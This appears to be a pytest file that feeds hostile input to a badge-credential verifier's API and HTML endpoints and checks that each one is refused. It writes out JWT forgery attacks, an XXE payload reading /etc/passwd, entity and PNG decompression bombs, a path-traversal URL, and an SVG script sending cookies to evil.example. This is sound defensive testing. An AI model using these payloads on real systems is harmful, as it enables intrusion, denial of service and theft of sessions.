"""Hostile input to the public endpoints: always a clear 4xx (or a failed, named check), fast, never a 5xx.

``POST /api/v1/verify`` answers 200 with ``verified: false`` and a failed check naming the
problem when it could read the input, 400 when it could not, 413 over 1 MB. The HTML
verifier answers the same verdicts as a page. Every answer must come within ``BOUND``
seconds and carry no stack trace.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import io
import json
import re
import struct
import sys
import time
import uuid
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519
from flask import Flask
from flask.testing import FlaskClient
from joserfc.jwk import OKPKey, RSAKey

from issuer import badges
from issuer.credentials import eddsa_rdfc_2022, vc_jwt
from issuer.credentials.loader import document_loader
from issuer.credentials.multikey import did_key_verification_method, public_jwk
from issuer.extensions import db
from issuer.models import Credential, utcnow
from issuer.verification import trust
from tests.conftest import AuthActions

#: Seconds any single hostile request may take (the clique alone took minutes before the RDFC-1.0 work limit).
BOUND = 5.0
DEPTH = 10_000
CLIQUE = 40
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Issued:
    id: uuid.UUID
    text: str
    jwt: str
    rsa_jwk: dict[str, Any]

    @property
    def document(self) -> dict[str, Any]:
        document: dict[str, Any] = json.loads(self.text)  # a fresh copy to mutate
        return document


@pytest.fixture
def issued(app: Flask, client: FlaskClient, issued: uuid.UUID) -> Issued:
    """The shared credential, with its text, its JWT and the issuer's RSA key."""
    credential_id = issued
    with app.app_context():
        credential = db.session.get(Credential, credential_id)
        text, token = credential.document, credential.jwt
    rsa_jwk = next(key for key in client.get("/.well-known/jwks.json").get_json()["keys"] if key["kty"] == "RSA")
    return Issued(credential_id, text, token, rsa_jwk)


@pytest.fixture
def partner(app: Flask, issued: Issued) -> Issued:
    """The same credential issued by a partner on the trust list (a did:key), as JSON-LD and as a VC-JWT (EdDSA).

    A credential naming this service as issuer that it did not issue fails before any of the checks below run (see
    ``test_a_changed_credential_of_ours_is_not_issued_by_this_service``); a trusted partner's goes through all of them.
    """
    private = ed25519.Ed25519PrivateKey.generate()
    method = did_key_verification_method(private.public_key())
    did = method.split("#", 1)[0]
    unsigned = {k: v for k, v in issued.document.items() if k != "proof"}
    unsigned["issuer"] = {**unsigned["issuer"], "id": did, "name": "Partner Clinic"}
    unsigned["credentialSubject"]["achievement"]["creator"] = unsigned["issuer"]
    with app.test_request_context():
        trust.add(db.session, issuer_id=did, name="Partner Clinic")
        db.session.commit()
    signed = eddsa_rdfc_2022.sign(unsigned, private_key=private, verification_method=method, created=utcnow(),
                                  document_loader=document_loader)
    token = vc_jwt.encode(signed, private_key=private, kid=method, algorithm="Ed25519")
    return Issued(issued.id, json.dumps(signed), token, public_jwk(private.public_key()))


def timed(call: Callable[[], Any]) -> Any:
    started = time.monotonic()
    response = call()
    elapsed = time.monotonic() - started
    assert elapsed < BOUND, f"took {elapsed:.1f} s"
    assert response.status_code < 500
    assert "Traceback" not in response.get_data(as_text=True)
    return response


# --- building hostile input ------------------------------------------------------------------------------


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def segment(value: Any) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def jwt_parts(token: str) -> tuple[dict[str, Any], str]:
    header, payload, _signature = token.split(".")
    return json.loads(base64.urlsafe_b64decode(header + "=" * (-len(header) % 4))), payload


def attacker_signed(token: str, **header_changes: Any) -> str:
    """The same payload, signed by an attacker's own Ed25519 key under a modified header."""
    header, payload = jwt_parts(token)
    header = {**header, "alg": "Ed25519", **header_changes}
    signing_input = f"{segment(header)}.{payload}"
    key = ed25519.Ed25519PrivateKey.generate()
    return f"{signing_input}.{b64url(key.sign(signing_input.encode()))}"


def alg_none(issued: Issued) -> str:
    header, payload = jwt_parts(issued.jwt)
    return f"{segment({**header, 'alg': 'none'})}.{payload}."


def hs256_with_public_key(issued: Issued) -> str:
    """The classic key-confusion attack: HMAC keyed with the published public key."""
    header, payload = jwt_parts(issued.jwt)
    if issued.rsa_jwk["kty"] == "RSA":
        public_pem = RSAKey.import_key(issued.rsa_jwk).as_pem(private=False)
    else:
        public_pem = OKPKey.import_key(issued.rsa_jwk).as_pem(private=False)
    signing_input = f"{segment({**header, 'alg': 'HS256'})}.{payload}"
    return f"{signing_input}.{b64url(hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest())}"


def embedded_jwk(issued: Issued) -> str:
    attacker = OKPKey.generate_key("Ed25519", private=False)
    return attacker_signed(issued.jwt, jwk=attacker.as_dict(private=False))


def unknown_crit(issued: Issued) -> str:
    header, payload = jwt_parts(issued.jwt)
    critical = {**header, "crit": ["urn:example:must-understand"], "urn:example:must-understand": 1}
    return f"{segment(critical)}.{payload}.AAAA"


def with_key(document: dict[str, Any], key: str, value: Any) -> dict[str, Any]:
    document[key] = value
    return document


def with_context(document: dict[str, Any], context: Any) -> dict[str, Any]:
    document["@context"] = [*document["@context"], context]
    return document


def clique(document: dict[str, Any]) -> dict[str, Any]:
    """Blank nodes all alike and all linked to each other: RDFC-1.0 would try n! orderings."""
    link = "https://example.org/ns#link"
    document["https://example.org/ns#nodes"] = [
        {"@id": f"_:n{i}", link: [{"@id": f"_:n{j}"} for j in range(CLIQUE) if j != i]} for i in range(CLIQUE)
    ]
    return document


def out_of_range_index(document: dict[str, Any]) -> dict[str, Any]:
    entries = document["credentialStatus"]
    for entry in entries if isinstance(entries, list) else [entries]:
        entry["statusListIndex"] = str(2**40)
    return document


def lone_surrogate(text: str) -> str:
    """A JSON escape for half a UTF-16 pair: well-formed JSON, but not Unicode text."""
    return re.sub(r'"name":\s*"', lambda match: match.group(0) + "\\ud800", text, count=1)


def jwt_lone_surrogate(issued: Issued) -> str:
    header, payload = jwt_parts(issued.jwt)
    text = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)).decode()
    return f"{segment(header)}.{b64url(lone_surrogate(text).encode())}.AAAA"


def duplicate_key(text: str) -> str:
    return text.replace('"name":', '"name": "Forged", "name":', 1)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def plain_png() -> bytes:
    return badges.badge_png(level_name="Emerging", level_number=1, framework_name="Music Therapists", levels_total=4)


def baked_png(text: str) -> bytes:
    return badges.bake_png(plain_png(), text)


def png_text_bomb() -> bytes:
    """A 'compressed' credential chunk that would inflate to 64 MB, then a thousand text chunks."""
    png = plain_png()
    iend = png.rindex(b"IEND") - 4
    zeros = zlib.compress(b"\0" * (64 * 1024 * 1024), 9)
    chunks = [png_chunk(b"tEXt", b"Comment\0" + b"A" * 100) for _ in range(1000)]
    return png[:iend] + png_chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + zeros) + b"".join(chunks) + png[iend:]


def png_many_text_chunks(text: str) -> bytes:
    """A real baked badge with a thousand small text chunks before IEND."""
    png = baked_png(text)
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + b"".join(png_chunk(b"tEXt", b"Comment\0x") for _ in range(1000)) + png[iend:]


def png_compressed_credential() -> bytes:
    """Only the decompression bomb: one compressed credential chunk (OB 3.0 forbids compression)."""
    png = plain_png()
    iend = png.rindex(b"IEND") - 4
    zeros = zlib.compress(b"\0" * (64 * 1024 * 1024), 9)
    return png[:iend] + png_chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + zeros) + png[iend:]


SVG_XXE = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
    "<openbadges:credential>&xxe;</openbadges:credential></svg>"
)
SVG_BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&d;&d;&d;&d;&d;&d;&d;&d;</text></svg>'
)


def svg_with_script(text: str) -> str:
    svg = badges.badge_svg(level_name="Emerging", level_number=1, framework_name="Music Therapists", levels_total=4)
    baked = badges.bake_svg(svg, text, jws=False)
    return baked.replace("</svg>", "<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>")


# --- POST /api/v1/verify: input it cannot read -> 400 / 413 with the problem named ---------------------------

#: (case, body builder, content type, status, failed check, words in its message)
UNREADABLE: list[tuple[str, Callable[[Issued], bytes | str], str, int, str, str]] = [
    ("truncated-json", lambda i: i.text[: len(i.text) // 2], "application/json", 400, "format", "not well-formed JSON"),
    ("deep-array", lambda i: "[" * DEPTH + "]" * DEPTH, "application/json", 400, "format", "nested deeper"),
    ("deep-object-in-credential",
     lambda i: i.text.rstrip()[:-1] + ', "x": ' + '{"a":' * DEPTH + "1" + "}" * DEPTH + "}",
     "application/json", 400, "format", "nested deeper"),
    ("duplicate-keys", lambda i: duplicate_key(i.text), "application/json", 400, "format",
     "duplicate JSON member 'name'"),
    ("nan", lambda i: i.text.replace('"name":', '"score": NaN, "name":', 1), "application/json", 400, "format",
     "NaN is not JSON"),
    ("infinity", lambda i: i.text.replace('"name":', '"score": -Infinity, "name":', 1), "application/json", 400,
     "format", "Infinity is not JSON"),
    ("lone-surrogate", lambda i: lone_surrogate(i.text), "application/json", 400, "format", "lone UTF-16 surrogate"),
    ("jwt-lone-surrogate", jwt_lone_surrogate, "text/plain", 400, "format", "lone UTF-16 surrogate"),
    ("jwt-garbage-header", lambda i: "!!!." + i.jwt.split(".", 1)[1], "text/plain", 400, "format", "not a compact JWS"),
    ("not-utf8", lambda i: b"\xff\xfe{" + b"\x00" * 10, "application/json", 400, "message", "UTF-16"),  # a UTF-16 BOM
]


@pytest.mark.parametrize(("body", "content_type", "status", "check", "words"),
                         [case[1:] for case in UNREADABLE], ids=[case[0] for case in UNREADABLE])
def test_unreadable_input_is_a_400_naming_the_problem(client: FlaskClient, issued: Issued,
                                                      body: Callable[[Issued], Any], content_type: str, status: int,
                                                      check: str, words: str) -> None:
    response = timed(lambda: client.post("/api/v1/verify", data=body(issued), content_type=content_type))
    assert response.status_code == status
    result = response.get_json()
    if check == "message":
        assert words in result["message"]
        return
    assert result["verified"] is False
    failed = {c["check"]: c["message"] for c in result["checks"] if c["ok"] is False}
    assert words in failed[check]


def test_a_body_over_1_mb_is_a_413(client: FlaskClient) -> None:
    body = json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"], "padding": "x" * (1024 * 1024 + 1)})
    response = timed(lambda: client.post("/api/v1/verify", data=body, content_type="application/json"))
    assert response.status_code == 413
    assert "larger than 1024 KB" in response.get_json()["message"]


# --- POST /api/v1/verify: readable but hostile -> 200, verified false, the failed check says why ------------------

Mutation = Callable[[Issued], Any]
#: (case, body builder, failed check, words in its message)
REFUSED: list[tuple[str, Mutation, str, str]] = [
    ("unknown-context-url", lambda i: with_context(i.document, "https://evil.example/context.jsonld"), "context",
     "https://evil.example/context.jsonld"),
    ("protected-term-redefined", lambda i: with_context(i.document, {"name": "https://evil.example/name"}), "context",
     "redefine a protected term"),
    ("inline-vocab", lambda i: with_context(with_key(i.document, "evil", 1), {"@vocab": "https://evil.example/"}),
     "context", "@vocab"),
    ("undefined-property-after-signing", lambda i: with_key(i.document, "grade", "A+"), "context", "grade"),
    ("blank-node-clique", lambda i: clique(i.document), "context", "work limit"),
    ("status-index-out-of-range", lambda i: out_of_range_index(i.document), "status", "status entry is invalid"),
    ("jwt-alg-none", alg_none, "proof", "alg none"),
    ("jwt-hs256-with-public-key", hs256_with_public_key, "proof", "HMAC algorithm HS256 refused"),
    ("jwt-embedded-jwk", embedded_jwk, "proof", "embeds its own key (jwk)"),
    ("jwt-jku", lambda i: attacker_signed(i.jwt, jku="https://evil.example/jwks.json"), "proof",
     "embeds its own key (jku)"),
    ("jwt-x5u", lambda i: attacker_signed(i.jwt, x5u="https://evil.example/cert.pem"), "proof",
     "embeds its own key (x5u)"),
    ("jwt-unknown-crit", unknown_crit, "proof", "unsupported critical header"),
]


@pytest.mark.parametrize(("mutate", "check", "words"), [case[1:] for case in REFUSED],
                         ids=[case[0] for case in REFUSED])
def test_hostile_credential_fails_a_named_check(client: FlaskClient, partner: Issued, mutate: Mutation, check: str,
                                                words: str) -> None:
    body = mutate(partner)
    if isinstance(body, dict):
        body = json.dumps(body)
    content_type = "application/json" if body.lstrip().startswith("{") else "text/plain"
    response = timed(lambda: client.post("/api/v1/verify", data=body, content_type=content_type))
    assert response.status_code == 200
    result = response.get_json()
    assert result["verified"] is False
    failed = {c["check"]: c["message"] for c in result["checks"] if c["ok"] is False}
    assert check in failed, result
    assert words in failed[check]


@pytest.mark.parametrize(("mutate", "check", "words"), [case[1:] for case in REFUSED],
                         ids=[case[0] for case in REFUSED])
def test_a_changed_credential_of_ours_is_not_issued_by_this_service(
        client: FlaskClient, issued: Issued, monkeypatch: pytest.MonkeyPatch, mutate: Mutation, check: str,
        words: str) -> None:
    """Whatever the change, a credential naming this service that it did not issue fails first, and cheaply."""
    core = sys.modules["issuer.credentials.verify"]  # the module (the package exports a function of that name)
    monkeypatch.setattr(core, "_check_context", lambda *args: pytest.fail("canonicalized a forgery"))
    body = mutate(issued)
    if isinstance(body, dict):
        body = json.dumps(body)
    content_type = "application/json" if body.lstrip().startswith("{") else "text/plain"
    result = timed(lambda: client.post("/api/v1/verify", data=body, content_type=content_type)).get_json()
    assert result["verified"] is False
    assert [c["check"] for c in result["checks"]] == ["format", "issuer"]
    assert result["checks"][1]["message"].startswith("Not issued by this service: did:web:127.0.0.1%3A5000 never")


def test_the_untouched_credential_still_verifies(client: FlaskClient, issued: Issued, partner: Issued) -> None:
    """The control for the cases above: they fail because of the attack, not the fixture."""
    for body, content_type in ((issued.text, "application/json"), (issued.jwt, "text/plain"),
                               (partner.text, "application/json"), (partner.jwt, "text/plain")):
        response = timed(partial(client.post, "/api/v1/verify", data=body, content_type=content_type))
        assert response.get_json()["verified"] is True


# --- baked images -----------------------------------------------------------------------------------------

#: (case, image builder, content type, words in the JSON message)
IMAGES: list[tuple[str, Callable[[Issued], bytes | str], str, str]] = [
    ("png-text-chunk-bomb", lambda i: png_text_bomb(), "image/png", "more than 64 text chunks"),
    ("png-many-text-chunks", lambda i: png_many_text_chunks(i.text), "image/png", "more than 64 text chunks"),
    ("png-compressed-credential", lambda i: png_compressed_credential(), "image/png", "compressed"),
    ("png-truncated", lambda i: baked_png(i.text)[:-40], "image/png", "truncated"),
    ("png-signature-only", lambda i: PNG_SIGNATURE, "image/png", "truncated"),
    ("svg-xxe", lambda i: SVG_XXE, "image/svg+xml", "entities"),
    ("svg-billion-laughs", lambda i: SVG_BILLION_LAUGHS, "image/svg+xml", "entities"),
    ("svg-script", lambda i: svg_with_script(i.text), "image/svg+xml", "script"),
]


@pytest.mark.parametrize(("image", "content_type", "words"), [case[1:] for case in IMAGES],
                         ids=[case[0] for case in IMAGES])
def test_hostile_image_is_a_400_naming_the_problem(client: FlaskClient, issued: Issued, image: Callable[[Issued], Any],
                                                   content_type: str, words: str) -> None:
    response = timed(lambda: client.post("/api/v1/verify", data=image(issued), content_type=content_type))
    assert response.status_code == 400
    assert "holds no readable credential" in response.get_json()["message"]
    assert words in response.get_json()["message"]


# --- the HTML verifier (POST /verify) ------------------------------------------------------------------------


def post_form(client: FlaskClient, auth: AuthActions, data: dict[str, Any]) -> Any:
    token = auth.csrf("/verify")
    return timed(lambda: client.post("/verify", data={**data, "csrf_token": token}))


@pytest.mark.parametrize(("mutate", "check", "words"),
                         [case[1:] for case in REFUSED if case[0] in ("blank-node-clique",
                                                                       "protected-term-redefined", "jwt-alg-none",
                                                                       "jwt-hs256-with-public-key")],
                         ids=["protected-term-redefined", "blank-node-clique", "jwt-alg-none",
                              "jwt-hs256-with-public-key"])
def test_html_verifier_shows_the_failed_check(client: FlaskClient, auth: AuthActions, partner: Issued,
                                              mutate: Mutation, check: str, words: str) -> None:
    body = mutate(partner)
    response = post_form(client, auth, {"credential": json.dumps(body) if isinstance(body, dict) else body})
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Not verified" in page
    assert words.replace("'", "&#39;") in page


@pytest.mark.parametrize(("body", "words"), [
    (lambda i: i.text[:100], "not well-formed JSON"),
    (lambda i: "[" * DEPTH + "]" * DEPTH, "nested deeper"),
    (lambda i: duplicate_key(i.text), "duplicate JSON member"),
    (lambda i: i.text.replace('"name":', '"score": NaN, "name":', 1), "NaN is not JSON"),
    (lambda i: lone_surrogate(i.text), "lone UTF-16 surrogate"),
], ids=["truncated-json", "deep-nesting", "duplicate-keys", "nan", "lone-surrogate"])
def test_html_verifier_refuses_unreadable_text_with_400(client: FlaskClient, auth: AuthActions, issued: Issued,
                                                        body: Callable[[Issued], str], words: str) -> None:
    response = post_form(client, auth, {"credential": body(issued)})
    assert response.status_code == 400
    assert words.replace("'", "&#39;") in response.get_data(as_text=True)


@pytest.mark.parametrize(("image", "filename", "words"), [
    (lambda i: png_text_bomb(), "badge.png", "more than 64 text chunks"),
    (lambda i: png_compressed_credential(), "badge.png", "compressed"),
    (lambda i: baked_png(i.text)[:-40], "badge.png", "truncated"),
    (lambda i: SVG_XXE.encode(), "badge.svg", "entities"),
    (lambda i: svg_with_script(i.text).encode(), "badge.svg", "script"),
], ids=["png-text-chunk-bomb", "png-compressed-credential", "png-truncated", "svg-xxe", "svg-script"])
def test_html_verifier_refuses_hostile_uploads_with_400(client: FlaskClient, auth: AuthActions, issued: Issued,
                                                        image: Callable[[Issued], bytes], filename: str,
                                                        words: str) -> None:
    response = post_form(client, auth, {"file": (io.BytesIO(image(issued)), filename)})
    assert response.status_code == 400
    assert words in response.get_data(as_text=True)


def test_html_verifier_refuses_a_paste_over_1_mb_with_413(client: FlaskClient, auth: AuthActions) -> None:
    response = post_form(client, auth, {"credential": "{" + " " * (1024 * 1024 + 1) + "}"})
    assert response.status_code == 413


def test_html_verifier_without_csrf_token_is_a_400(client: FlaskClient) -> None:
    response = timed(lambda: client.post("/verify", data={"credential": "{}"}))
    assert response.status_code == 400


# --- public GET routes with garbage ids ---------------------------------------------------------------------


#: A well-formed id that names nothing (fixed, so every xdist worker collects the same test ids).
UNKNOWN = "3f6c2a9e-8d41-4b7f-a0c5-51e2d9b7c364"


@pytest.mark.parametrize("path", [
    "/credentials/not-a-uuid",
    "/credentials/not-a-uuid.json",
    f"/credentials/{UNKNOWN}",
    f"/credentials/{UNKNOWN}.jwt",
    f"/verify/{UNKNOWN}",
    "/verify/%00%ff",
    f"/status/{UNKNOWN}",
    "/status/..%2F..%2Fetc%2Fpasswd",
    "/achievements/garbage",
    f"/achievements/{'9' * 400}",
    "/achievements/%F0%9F%92%A9%00",
])
def test_garbage_ids_are_a_404(client: FlaskClient, path: str) -> None:
    response = timed(lambda: client.get(path))
    assert response.status_code == 404
    json_response = timed(lambda: client.get(path, headers={"Accept": "application/json"}))
    assert json_response.status_code == 404
    assert json_response.get_json()["message"]
